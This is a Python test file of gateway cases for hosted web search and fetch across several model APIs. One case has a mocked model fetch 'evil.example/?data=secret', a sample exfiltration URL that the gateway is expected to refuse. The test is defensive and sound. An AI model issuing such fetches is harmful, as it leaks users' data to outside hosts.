"""Searches and fetches that the gateway runs."""

from typing import Any

from tests.coding_agents.related.words import (
    CHAT,
    FETCH,
    HOSTED,
    PAGES,
    QWEN,
    READ,
    READ_FUNCTION,
    READ_TOOL,
    RESPONSES,
    RESULTS,
    SEARCH,
    WEB,
    WITH_WEB,
    Json,
    bearer,
    call,
    case,
    get,
    keys,
    messages,
    models,
    ok,
    post,
    turn,
)

CASES: dict[str, Json] = {}
NEWS = ["web", "search", {"query": "news"}]
ASK = {"calls": [call("web_search", {"query": "news"})]}


def found(id_: str = "<id:s>", query: str = "news") -> list[Json]:
    return [
        {"type": "server_tool_use", "id": id_, "name": "web_search", "input": {"query": query}},
        {"type": "web_search_tool_result", "tool_use_id": id_, "content": RESULTS},
    ]


def failed(code: str) -> list[Json]:
    """The blocks of a search or fetch that ended with this error."""
    return [{"type": "server_tool_use"}, {"content": {"error_code": code}}]


def searching(*calls: Any, config: Json = WITH_WEB, **more: Any) -> Json:
    requests, replies, upstream = more.pop("requests"), more.pop("replies"), more.pop("upstream")
    return case(config, requests, replies, upstream, mcp_calls=list(calls), mcp=more.pop("mcp", {"web": WEB}), **more)


def search_call(query: str = "news", status: str = "completed", **action: Any) -> Json:
    return {"type": "web_search_call", "status": status, "action": {"type": "search", "query": query, **action}}


SEAL = {"type": "reasoning", "summary": [], "encrypted_content": "<seal>"}
TEXT = {"type": "message"}

# -- Messages

CASES["B1_text_before_and_two_searches"] = searching(
    NEWS,
    ["web", "search", {"query": "more"}],
    requests=[messages(tools=[SEARCH], stream=False)],
    replies=[
        ok(
            stop_reason="end_turn",
            content=[
                {"type": "text", "text": "I look."},
                found("<id:a>")[0],
                found("<id:b>", "more")[0],
                found("<id:a>")[1],
                found("<id:b>")[1],
                {"type": "text", "text": "Done."},
            ],
            usage={"server_tool_use": {"web_search_requests": 2, "web_fetch_requests": 0}},
        )
    ],
    upstream=[
        turn(
            {
                "text": "I look.",
                "calls": [call("web_search", {"query": "news"}), call("web_search", {"query": "more"}, "call_2")],
            }
        ),
        turn(
            "Done.",
            messages=[
                {"role": "user"},
                {"role": "assistant", "content": "I look."},
                {"role": "tool", "content": READ},
                {"role": "tool", "content": READ},
            ],
        ),
    ],
)
CASES["B1_tool_choice"] = searching(
    NEWS,
    requests=[
        messages(tools=[SEARCH, READ_TOOL], tool_choice={"type": "any"}),
        messages(tools=[SEARCH, READ_TOOL], tool_choice={"type": "tool", "name": "Read"}),
        messages(tools=[SEARCH], tool_choice={"type": "none"}),
    ],
    replies=[ok(content=[*found(), {"type": "text"}]), ok(stop_reason="tool_use"), ok(content=[{"type": "text"}])],
    upstream=[
        turn(ASK, tool_choice="required"),
        turn("Two.", tool_choice={"<one_of>": ["auto", "<absent>"]}),
        turn({"calls": [call("Read", "{}")]}, tool_choice={"type": "function", "function": {"name": "Read"}}),
        turn("x"),
    ],
)
CASES["B1_claude_codes_own_search"] = searching(
    NEWS,
    requests=[
        messages("Perform a web search for the query: news", tools=[SEARCH]),
        messages("hi", tools=[SEARCH], headers={"user-agent": "anthropic-python"}),
        messages("hi", tools=[SEARCH, READ_TOOL]),
    ],
    replies=[ok(content=[*found(), {"type": "text"}]), ok(), ok()],
    upstream=[
        turn(ASK, tool_choice={"<one_of>": ["required", {"function": {"name": "web_search"}}]}),
        turn("Two.", tool_choice={"<one_of>": ["auto", "<absent>"]}),
        turn("x", tool_choice={"<one_of>": ["auto", "<absent>"]}),
        turn("x", tool_choice={"<one_of>": ["auto", "<absent>"]}),
    ],
)
CASES["B1_first_call_never"] = searching(
    config={
        **WITH_WEB,
        "hosted_tools": {"web_search": {**HOSTED["hosted_tools"]["web_search"], "first_call": "never"}},
    },
    requests=[messages("Perform a web search", tools=[SEARCH])],
    replies=[ok(content=[{"type": "text"}])],
    upstream=[turn("x", tool_choice={"<one_of>": ["auto", "<absent>"]})],
)
CASES["B1_query_too_long"] = searching(
    requests=[messages(tools=[SEARCH])],
    replies=[
        ok(
            content=[
                {"type": "server_tool_use"},
                {
                    "type": "web_search_tool_result",
                    "content": {"type": "web_search_tool_result_error", "error_code": "query_too_long"},
                },
                {"type": "text"},
            ],
        )
    ],
    upstream=[turn({"calls": [call("web_search", {"query": "x" * 1001})]}), turn("ok", contains=["Error"])],
)
CASES["B1_mixed_turn"] = searching(
    NEWS,
    requests=[
        messages("What is new?", tools=[SEARCH, READ_TOOL]),
        messages(
            '<history:0>+[{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "call_2", '
            '"content": "FILE-1"}]}]',
            tools=[SEARCH, READ_TOOL],
        ),
    ],
    replies=[
        ok(
            stop_reason="tool_use",
            content=[found()[0], {"type": "tool_use", "id": "<text>", "name": "Read", "input": {}}, found()[1]],
        ),
        ok(stop_reason="end_turn"),
    ],
    upstream=[
        turn({"calls": [call("web_search", {"query": "news"}), call("Read", "{}", "call_2")]}),
        turn(
            "Two.",
            messages=[
                {"role": "user"},
                {
                    "role": "assistant",
                    "tool_calls": [{"function": {"name": "web_search"}}, {"function": {"name": "Read"}}],
                },
                {"role": "tool", "content": READ},
                {"role": "tool", "content": "FILE-1"},
            ],
        ),
    ],
)
CASES["B1_fetch_url_nobody_named"] = searching(
    ["web", "fetch", {"url": "https://c.example/two"}],
    requests=[messages("Read https://c.example/one or https://c.example/two", tools=[FETCH])],
    replies=[
        ok(
            content=[
                {"type": "server_tool_use", "id": "<id:f>", "name": "web_fetch"},
                {
                    "type": "web_fetch_tool_result",
                    "tool_use_id": "<id:f>",
                    "content": {"type": "web_fetch_tool_result_error", "error_code": "url_not_in_prior_context"},
                },
                {"type": "server_tool_use", "id": "<id:g>", "name": "web_fetch"},
                {
                    "type": "web_fetch_tool_result",
                    "tool_use_id": "<id:g>",
                    "content": {
                        "type": "web_fetch_result",
                        "url": "https://c.example/two",
                        "retrieved_at": "<time>",
                        "content": {
                            "type": "document",
                            "source": {"type": "text", "media_type": "text/plain", "data": "Page one.\nLine two."},
                        },
                    },
                },
                {"type": "text"},
            ],
            usage={"server_tool_use": {"web_search_requests": 0, "web_fetch_requests": 1}},
        )
    ],
    upstream=[
        turn({"calls": [call("web_fetch", {"url": "https://evil.example/?data=secret"})]}),
        turn({"calls": [call("web_fetch", {"url": "https://c.example/two"}, "call_2")]}, contains=["Error"]),
        turn("Done.", contains=["Page one."]),
    ],
)
CASES["B1_fetch_found_page_and_its_bounds"] = searching(
    NEWS,
    ["web", "fetch", {"url": "https://b.example/two"}],
    requests=[messages(tools=[SEARCH, {**FETCH, "max_uses": 1, "allowed_domains": ["b.example"]}])],
    replies=[
        ok(
            content=[
                *found(),
                *failed("url_not_allowed"),
                {"type": "server_tool_use"},
                {"content": {"type": "web_fetch_result"}},
                *failed("max_uses_exceeded"),
                {"type": "text"},
            ]
        )
    ],
    upstream=[
        turn(ASK),
        turn({"calls": [call("web_fetch", {"url": "https://a.example/one"}, "call_2")]}),
        turn({"calls": [call("web_fetch", {"url": "https://b.example/two"}, "call_3")]}),
        turn({"calls": [call("web_fetch", {"url": "https://b.example/two"}, "call_4")]}),
        turn("x"),
    ],
)
CASES["B1_wrong_fields"] = searching(
    requests=[
        messages(tools=[{**SEARCH, "max_uses": 0}]),
        messages(tools=[{**SEARCH, "allowed_domains": ["https://a.example"]}]),
        messages(tools=[SEARCH, {"name": "web_search", "input_schema": {"type": "object"}}]),
        messages(tools=[{**FETCH, "allowed_domains": ["a.example"], "blocked_domains": ["b.example"]}]),
    ],
    replies=[{"status": 400, "body": {"error": {"type": "invalid_request_error"}}}] * 4,
    upstream=[],
)
CASES["B1_other_dates_and_fields"] = searching(
    NEWS,
    requests=[
        messages(
            tools=[
                {
                    "type": "web_search_20260209",
                    "name": "web_search",
                    "user_location": {"type": "approximate", "city": "Bonn"},
                    "cache_control": {"type": "ephemeral"},
                    "allowed_callers": ["direct"],
                }
            ]
        )
    ],
    replies=[ok(content=[*found(), {"type": "text"}])],
    upstream=[turn(ASK), turn("x")],
)
CASES["B1_nothing_left_after_domains"] = searching(
    NEWS,
    requests=[messages(tools=[{**SEARCH, "allowed_domains": ["z.example"]}])],
    replies=[
        ok(content=[{"type": "server_tool_use"}, {"type": "web_search_tool_result", "content": []}, {"type": "text"}])
    ],
    upstream=[turn(ASK), turn("x", lacks=["a.example"])],
)
CASES["B1_errors_of_the_tool"] = searching(
    NEWS,
    ["web", "search", {"query": "two"}],
    ["web", "search", {"query": "three"}],
    mcp={
        "web": {
            **WEB,
            "answers": {
                "search": [
                    {"isError": True, "content": [{"type": "text", "text": "HTTP 429 too many requests"}]},
                    {"error": {"code": -32000, "message": "engine is down"}},
                    {"content": [{"type": "text", "text": "There is nothing."}]},
                ]
            },
        }
    },
    requests=[messages(tools=[SEARCH])],
    replies=[
        ok(
            content=[
                *failed("too_many_requests"),
                *failed("unavailable"),
                {"type": "server_tool_use"},
                {"type": "web_search_tool_result", "content": []},
                {"type": "text"},
            ]
        )
    ],
    upstream=[
        turn(ASK),
        turn({"calls": [call("web_search", {"query": "two"}, "call_2")]}, contains=["HTTP 429"]),
        turn({"calls": [call("web_search", {"query": "three"}, "call_3")]}, contains=["engine is down"]),
        turn("x", contains=["There is nothing."]),
    ],
)
CASES["B1_history_without_the_tool"] = searching(
    NEWS,
    requests=[
        messages("What is new?", tools=[SEARCH]),
        messages('<history:0>+[{"role": "user", "content": "More?"}]'),
        post(RESPONSES, {"input": "x", "tools": [{"type": "web_search"}], "store": False}),
    ],
    replies=[ok(), ok(content=[{"type": "text", "text": "No."}]), ok()],
    upstream=[
        turn(ASK),
        turn("Two."),
        turn(
            "No.",
            messages=[
                {"role": "user"},
                {"role": "assistant"},
                {"role": "tool", "content": READ},
                {"role": "assistant", "content": "Two."},
                {"role": "user", "content": "More?"},
            ],
        ),
        turn("x"),
    ],
)
CASES["B1_search_then_length"] = searching(
    NEWS,
    requests=[messages(tools=[SEARCH])],
    replies=[ok(stop_reason="max_tokens", content=[*found(), {"type": "text", "text": "Half"}])],
    upstream=[turn(ASK), turn({"text": "Half", "finish": "length"})],
)
CASES["B1_only_some_models"] = searching(
    config={
        **models(qwen3={}, other={}),
        "mcp_servers": {"web": {}},
        "hosted_tools": {"web_search": {"mcp": "web", "tool": "search", "models": ["qwen*"]}},
    },
    requests=[
        messages(tools=[SEARCH], model="other"),
        post(RESPONSES, {"model": "other", "input": "x", "tools": [{"type": "web_search"}]}),
    ],
    replies=[{"status": 400}, ok(parley={"warnings": "<any>"})],
    upstream=[turn("x", absent=["tools"])],
)

# -- Responses

CASES["B2_sources"] = searching(
    NEWS,
    requests=[
        post(
            RESPONSES,
            {
                "input": "x",
                "store": False,
                "tools": [{"type": "web_search"}],
                "include": ["web_search_call.action.sources"],
            },
        )
    ],
    replies=[
        ok(
            output=[
                search_call(sources=[{"type": "url", "url": page["url"]} for page in PAGES]),
                SEAL,
                {"type": "message", "content": [{"annotations": "<absent>"}]},
            ]
        )
    ],
    upstream=[turn(ASK), turn("Two.")],
)
CASES["B2_mixed_turn"] = searching(
    NEWS,
    requests=[
        post(RESPONSES, {"input": "x", "store": True, "tools": [{"type": "web_search"}, READ_FUNCTION]}),
        post(
            RESPONSES,
            {
                "previous_response_id": "<id_of:0>",
                "input": [{"type": "function_call_output", "call_id": "call_2", "output": "FILE-1"}],
            },
        ),
    ],
    replies=[
        ok(output=[search_call(), {"type": "function_call", "name": "Read", "call_id": "call_2"}]),
        ok(status="completed"),
    ],
    upstream=[
        turn({"calls": [call("web_search", {"query": "news"}), call("Read", "{}", "call_2")]}),
        turn(
            "Two.",
            messages=[
                {"role": "user"},
                {"role": "assistant"},
                {"role": "tool", "content": READ},
                {"role": "tool", "content": "FILE-1"},
            ],
        ),
    ],
)
CASES["B2_two_searches_with_codex"] = searching(
    NEWS,
    ["web", "search", {"query": "more"}],
    requests=[
        post(RESPONSES, {"input": "x", "store": False, "tools": [{"type": "web_search"}]}),
        post(
            RESPONSES, {"input": '<codex:0>+[{"type": "message", "role": "user", "content": "And?"}]', "store": False}
        ),
    ],
    replies=[ok(output=[search_call(), search_call("more"), SEAL, TEXT]), ok()],
    upstream=[
        turn({"calls": [call("web_search", {"query": "news"}), call("web_search", {"query": "more"}, "call_2")]}),
        turn("Two."),
        turn(
            "x",
            messages=[
                {"role": "user"},
                {"role": "assistant"},
                {"role": "tool", "content": READ},
                {"role": "tool", "content": READ},
                {"role": "assistant", "content": "Two."},
                {"role": "user", "content": "And?"},
            ],
        ),
    ],
)
CASES["B2_sizes_and_filters"] = searching(
    ["web", "search", {"query": "news", "max_results": 3}],
    ["web", "search", {"query": "news", "max_results": 10}],
    requests=[
        post(
            RESPONSES,
            {"input": "x", "store": False, "tools": [{"type": "web_search_preview", "search_context_size": "low"}]},
        ),
        post(
            RESPONSES,
            {
                "input": "x",
                "store": False,
                "tools": [
                    {
                        "type": "web_search_2025_08_26",
                        "search_context_size": "high",
                        "filters": {"allowed_domains": ["b.example"]},
                    }
                ],
                "include": ["web_search_call.action.sources"],
            },
        ),
    ],
    replies=[
        ok(output=[search_call(), SEAL, TEXT]),
        ok(output=[search_call(sources=[{"url": PAGES[1]["url"]}]), SEAL, TEXT]),
    ],
    upstream=[turn(ASK), turn("x"), turn(ASK), turn("x", lacks=["a.example"])],
)
CASES["B2_key_may_not"] = searching(
    config={**WITH_WEB, "mcp_servers": {"web": {"keys": ["b"]}}, "keys": keys(a={}, b={})},
    requests=[
        post(RESPONSES, {"input": "x", "tools": [{"type": "web_search"}]}, bearer("a")),
        post(CHAT, {"messages": [{"role": "user", "content": "x"}], "web_search_options": {}}, bearer("a")),
    ],
    replies=[ok(parley={"warnings": "<any>"}), ok()],
    upstream=[turn("x", absent=["tools"]), turn("x", absent=["tools", "web_search_options"])],
)
CASES["B2_forced_and_offline"] = searching(
    NEWS,
    NEWS,
    config={**WITH_WEB, "hosted_tools": {"web_search": {**HOSTED["hosted_tools"]["web_search"], "offline": "search"}}},
    requests=[
        post(
            RESPONSES,
            {
                "input": "x",
                "store": False,
                "tools": [{"type": "web_search"}, READ_FUNCTION],
                "tool_choice": {"type": "web_search"},
            },
        ),
        post(
            RESPONSES,
            {
                "input": "x",
                "store": False,
                "tools": [{"type": "web_search", "external_web_access": False}],
                "tool_choice": "required",
            },
        ),
    ],
    replies=[ok(output=[search_call(), SEAL, TEXT])] * 2,
    upstream=[
        turn(ASK, tool_choice={"function": {"name": "web_search"}}),
        turn("x", tool_choice={"<one_of>": ["auto", "<absent>"]}),
        turn(ASK, tool_choice="required"),
        turn("x", tool_choice={"<one_of>": ["auto", "<absent>"]}),
    ],
)
CASES["B2_a_function_of_the_same_name"] = searching(
    requests=[
        post(RESPONSES, {"input": "x", "tools": [{"type": "web_search"}, {**READ_FUNCTION, "name": "web_search"}]}),
        post(
            CHAT,
            {
                "messages": [{"role": "user", "content": "x"}],
                "web_search_options": {},
                "tools": [{"type": "function", "function": {"name": "web_search", "parameters": {}}}],
            },
        ),
    ],
    replies=[{"status": 400}, {"status": 400}],
    upstream=[],
)

# -- chat completions, and Codex's own search

CASES["B3_chat_streamed"] = searching(
    NEWS,
    requests=[
        post(
            CHAT,
            {
                "messages": [{"role": "user", "content": "x"}],
                "web_search_options": {"search_context_size": "high"},
                "stream": True,
                "stream_options": {"include_usage": True},
            },
        )
    ],
    replies=[{"status": 200}],
    upstream=[
        turn(ASK),
        turn("Two.", messages=[{"role": "user"}, {"role": "assistant"}, {"role": "tool", "content": READ}]),
    ],
)
CASES["B3_chat_not_configured"] = case(
    QWEN,
    [post(CHAT, {"messages": [{"role": "user", "content": "x"}], "web_search_options": {}})],
    [ok()],
    [turn("x", absent=["web_search_options", "tools"])],
)


def standalone(commands: Json, **more: Any) -> Json:
    return post("/v1/alpha/search", {"id": "session-1", "commands": commands, **more})


CASES["B3_open_a_reference"] = searching(
    NEWS,
    ["web", "fetch", {"url": "https://b.example/two"}],
    ["web", "fetch", {"url": "https://b.example/two"}],
    requests=[
        standalone({"search_query": [{"q": "news"}]}),
        standalone({"open": [{"ref_id": "turn0search1"}]}),
        standalone({"find": [{"ref_id": "turn1view0", "pattern": "Line"}]}),
        standalone({"open": [{"ref_id": "turn7search0"}], "click": [{"ref_id": "turn1view0", "id": 3}]}),
    ],
    replies=[
        ok(output={"<has>": "[turn0search1] Two\nhttps://b.example/two\nThe second page."}, encrypted_output=None),
        ok(output="[turn1view0] https://b.example/two\nPage one.\nLine two."),
        ok(output={"<has>": "Line two."}),
        ok(output={"<has>": "turn7search0"}),
    ],
    upstream=[],
)
CASES["B3_bad_body"] = searching(
    requests=[
        post("/v1/alpha/search", {"commands": {"search_query": [{"q": "x"}]}}),
        standalone({"search_query": [{"q": f"x{number}"} for number in range(9)]}),
        post("/v1/alpha/search", {"id": "s", "model": "none", "commands": {"search_query": [{"q": "x"}]}}),
    ],
    replies=[{"status": 400, "body": {"error": {"param": "id"}}}, {"status": 400}, {"status": 404}],
    upstream=[],
)
CASES["B3_bounds_of_the_output"] = searching(
    NEWS,
    requests=[standalone({"search_query": [{"q": "news"}], "screenshot": [{"ref_id": "x"}]}, max_output_tokens=12)],
    replies=[ok(output="<text>")],
    upstream=[],
)
CASES["B3_rights_and_limits"] = searching(
    NEWS,
    config={
        **WITH_WEB,
        "mcp_servers": {"web": {"keys": ["b"]}},
        "keys": keys(a={}, b={"limits": {"requests_per_minute": 1}}),
    },
    requests=[
        {**standalone({"search_query": [{"q": "news"}]}), "headers": headers}
        for headers in ({}, bearer("a"), bearer("b"), bearer("b"))
    ],
    replies=[{"status": 401}, {"status": 403}, ok(output={"<has>": "turn0search0"}), {"status": 429}],
    upstream=[],
)
PRICED: Json = {
    **WITH_WEB,
    "hosted_tools": {"web_search": {**HOSTED["hosted_tools"]["web_search"], "price": {"per_1000": 5000}}},
    "keys": keys(a={"limits": {"spend_per_day": 1}}, boss={"admin": True}),
}
USED = {"<contains>": [{"searches": 1, "fetches": 0, "cost": 5.0}]}
CASES["B1_searches_of_a_reply_that_fails_are_counted"] = searching(
    NEWS,
    config=PRICED,
    requests=[messages(tools=[SEARCH], headers=bearer("a")), get("/v1/usage", bearer("boss"))],
    replies=[{"status": 402, "body": {"error": {"type": "billing_error"}}}, ok(data=USED)],
    upstream=[turn(ASK)],
)
CASES["B1_a_search_that_fails_is_counted"] = searching(
    NEWS,
    config={**PRICED, "keys": keys(a={}, boss={"admin": True})},
    mcp={"web": {**WEB, "answers": {"search": [{"isError": True, "content": [{"type": "text", "text": "no"}]}]}}},
    requests=[messages(tools=[SEARCH], headers=bearer("a")), get("/v1/usage", bearer("boss"))],
    replies=[ok(usage={"server_tool_use": {"web_search_requests": 1}}), ok(data=USED)],
    upstream=[turn(ASK), turn("x")],
)
CASES["B3_budget"] = searching(
    NEWS,
    config=PRICED,
    requests=[
        *[{**standalone({"search_query": [{"q": "news"}]}), "headers": bearer("a")}] * 2,
        get("/v1/usage", bearer("boss")),
    ],
    replies=[ok(output={"<has>": "turn0search0"}), {"status": 402}, ok(data=USED)],
    upstream=[],
)

# -- Gemini

READ_URL = {"calls": [call("web_fetch", {"url": "https://1.1.1.1/x"})]}
GROUNDING: Json = {
    "webSearchQueries": ["news"],
    "groundingChunks": [{"web": {"uri": page["url"], "title": page["title"]}} for page in PAGES],
}


def generate(tools: list[Json], text: str = "find", **more: Any) -> Json:
    body = {"contents": [{"role": "user", "parts": [{"text": text}]}], "tools": tools}
    return {"method": "POST", "path": "/v1beta/models/qwen3:generateContent", "headers": {}, "body": body, **more}


def stream(tools: list[Json]) -> Json:
    return generate(tools, path="/v1beta/models/qwen3:streamGenerateContent?alt=sse")


def candidate(**fields: Any) -> Json:
    return ok(candidates=[{"finishReason": "STOP", **fields}])


CASES["B4_gemini_search"] = searching(
    NEWS,
    requests=[generate([{"googleSearch": {}}])],
    replies=[candidate(content={"parts": [{"text": "Two pages."}]}, groundingMetadata=GROUNDING)],
    upstream=[turn(ASK), turn("Two pages.", contains=[READ])],
)
CASES["B4_gemini_search_and_functions_streamed"] = searching(
    NEWS,
    requests=[stream([{"google_search": {}}, {"functionDeclarations": [{"name": "Read"}]}])],
    replies=[
        {
            "status": 200,
            "events": [
                {
                    "candidates": [
                        {
                            "content": {"parts": [{"functionCall": {"name": "Read"}}]},
                            "finishReason": "STOP",
                            "groundingMetadata": GROUNDING,
                        }
                    ]
                }
            ],
        }
    ],
    upstream=[turn(ASK), turn({"calls": [call("Read", {}, "call_2")]}, contains=[READ])],
)
CASES["B4_gemini_domains_that_are_excluded"] = searching(
    NEWS,
    requests=[generate([{"googleSearch": {"excludeDomains": ["b.example"]}}])],
    replies=[candidate(groundingMetadata={**GROUNDING, "groundingChunks": GROUNDING["groundingChunks"][:1]})],
    upstream=[turn(ASK), turn("One.", lacks=["b.example"])],
)
CASES["B4_gemini_page"] = searching(
    ["web", "fetch", {"url": "https://1.1.1.1/x"}],
    requests=[generate([{"urlContext": {}}], "read https://1.1.1.1/x")],
    replies=[
        candidate(
            urlContextMetadata={
                "urlMetadata": [
                    {
                        "retrievedUrl": "https://1.1.1.1/x",
                        "urlRetrievalStatus": "URL_RETRIEVAL_STATUS_SUCCESS",
                    }
                ]
            }
        )
    ],
    upstream=[turn(READ_URL), turn("Read.", contains=["Line two."])],
)
CASES["B4_gemini_search_that_fails"] = searching(
    NEWS,
    requests=[generate([{"googleSearch": {}}])],
    replies=[candidate(groundingMetadata={"webSearchQueries": ["news"], "groundingChunks": "<absent>"})],
    upstream=[turn(ASK), turn("None.", contains=["quota"])],
    mcp={"web": {**WEB, "answers": {"search": [{"content": [{"type": "text", "text": "quota"}], "isError": True}]}}},
)


def refused(path: str) -> Json:
    return {"status": 400, "body": {"error": {"status": "INVALID_ARGUMENT", "message": {"<has>": path}}}}


CASES["B4_gemini_not_configured"] = case(
    QWEN,
    [generate([{"google_search": {}}]), stream([{"urlContext": {}}])],
    [refused("tools[0].google_search: "), refused("tools[0].urlContext: ")],
    [],
)
CASES["B4_gemini_other_tools_and_names"] = case(
    WITH_WEB,
    [
        generate([{"googleSearch": {}}, {"codeExecution": {}}]),
        generate([{"googleSearch": {}}, {"functionDeclarations": [{"name": "web_search"}]}]),
    ],
    [refused("(and 1 more)"), refused("tools[0].googleSearch: takes the name 'web_search'")],
    [],
    mcp={"web": WEB},
)
CASES["B4_gemini_key_may_not"] = case(
    {**WITH_WEB, "keys": keys(a={}), "mcp_servers": {"web": {"keys": ["b"]}}},
    [generate([{"googleSearch": {}}], headers=bearer("a"))],
    [{"status": 403}],
    [],
    mcp={"web": WEB},
)
